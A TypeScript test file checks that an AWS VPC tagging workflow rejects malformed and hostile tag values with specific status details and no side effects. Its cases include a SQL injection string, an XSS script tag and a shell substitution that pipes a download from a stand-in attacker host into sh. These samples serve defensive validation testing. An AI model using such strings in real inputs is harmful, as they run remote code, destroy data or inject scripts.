import type { LocalHub } from '#local/hub';
import { changesBesidesTags, crashes, exampleHub, registryState, statusOf, VPC } from './helpers';

/**
 * Malformed, oversized and hostile request tags on a real VPC of the example world, through the real tag event,
 * intake and workflow: each is rejected with a specific status detail, changes nothing else, crashes no Lambda.
 */

const BASE = { 'spokelink:connect': 'true', 'spokelink:segment': 'nonprod', 'spokelink:services': '*' };

const CASES: { name: string; tags: Record<string, string>; detail: RegExp }[] = [
  {
    name: 'a connect value that is neither true nor false',
    tags: { 'spokelink:connect': 'yes please' },
    detail: /^malformed-tags: .*spokelink:connect must be "true" or "false", not "yes please"/,
  },
  {
    name: 'SQL injection in the segment',
    tags: { 'spokelink:segment': "prod'; DROP TABLE vpcs; --" },
    detail: /^malformed-tags: .*spokelink:segment .* is not a segment name/,
  },
  {
    name: 'shell injection in the services',
    tags: { 'spokelink:services': 'ssm,$(curl http://evil.example/x|sh)' },
    detail: /^malformed-tags: .*spokelink:services entry .* is not a service name/,
  },
  {
    name: 'markup in the services',
    tags: { 'spokelink:services': '<script>alert(1)</script>' },
    detail: /^malformed-tags: .*is not a service name/,
  },
  {
    name: 'unicode look-alikes in the segment',
    tags: { 'spokelink:segment': 'nоnprod' /* Cyrillic o */ },
    detail: /^malformed-tags: .*spokelink:segment .* is not a segment name/,
  },
  {
    name: 'emoji and control characters in the services',
    tags: { 'spokelink:services': 'ssm,🔥\u0007' },
    detail: /^malformed-tags: .*is not a service name/,
  },
  { name: 'an empty segment', tags: { 'spokelink:segment': '' }, detail: /^malformed-tags: .*is not a segment name/ },
  { name: 'empty services', tags: { 'spokelink:services': '' }, detail: /^malformed-tags: .*has an empty entry/ },
  {
    name: 'an empty entry in the services',
    tags: { 'spokelink:services': 'ssm,,sts' },
    detail: /^malformed-tags: .*spokelink:services has an empty entry/,
  },
  {
    name: 'a duplicated service',
    tags: { 'spokelink:services': 'ssm,sts,ssm' },
    detail: /^malformed-tags: .*spokelink:services names "ssm" twice/,
  },
  {
    name: 'a 256-character service name (the longest tag value AWS takes)',
    tags: { 'spokelink:services': 's'.repeat(256) },
    detail: /^malformed-tags: .*is not a service name/,
  },
  {
    name: 'a segment the configuration does not have',
    tags: { 'spokelink:segment': 'staging' },
    detail: /^unknown-segment: /,
  },
  {
    name: 'a service the catalog does not have',
    tags: { 'spokelink:services': 'ssm,dynamodb' },
    detail: /^unknown-service: .*dynamodb/,
  },
  {
    name: 'a service the segment may not use',
    tags: { 'spokelink:services': 'secretsmanager' },
    detail: /^service-not-allowed: .*secretsmanager/,
  },
  {
    name: 'a segment the account may not use',
    tags: { 'spokelink:segment': 'prod' },
    detail: /^account-not-allowed: /,
  },
];

describe('Bad input: hostile request tags', () => {
  let hub: LocalHub;
  beforeAll(async () => {
    hub = await exampleHub();
  });
  afterAll(() => hub?.close());

  it.each(CASES)('rejects $name with a specific detail and changes nothing else', async ({ tags, detail }) => {
    const before = hub.twin.snapshot();
    const registryBefore = await registryState(hub);
    const executions = hub.executions().length;

    await hub.tagVpc(VPC, { ...BASE, ...tags });
    const run = await hub.runUntilIdle({ maxVirtualMs: 3_600_000 });

    expect(run.reason).toBe('predicate');
    const started = hub.executions().slice(executions);
    expect(started.map((e) => e.status)).toEqual(['SUCCEEDED']);
    const status = statusOf(hub, VPC);
    expect(status.status).toBe('rejected');
    expect(status.detail).toMatch(detail);
    expect(status.detail!.length).toBeLessThanOrEqual(256);
    expect(changesBesidesTags(before, hub.twin.snapshot(), [VPC])).toEqual([]);
    expect(await registryState(hub)).toEqual(registryBefore);
    expect(crashes(hub)).toEqual([]);
  });

  it('never sees a tag value over 256 characters: EC2 refuses it, no event, no execution', async () => {
    const executions = hub.executions().length;
    const before = hub.twin.snapshot();

    await expect(hub.tagVpc(VPC, { ...BASE, 'spokelink:services': 's'.repeat(257) })).rejects.toMatchObject({
      name: 'InvalidParameterValue',
    });
    await hub.runUntilIdle({ maxVirtualMs: 600_000 });

    expect(hub.executions()).toHaveLength(executions);
    expect(hub.twin.snapshot()).toEqual(before);
  });
});
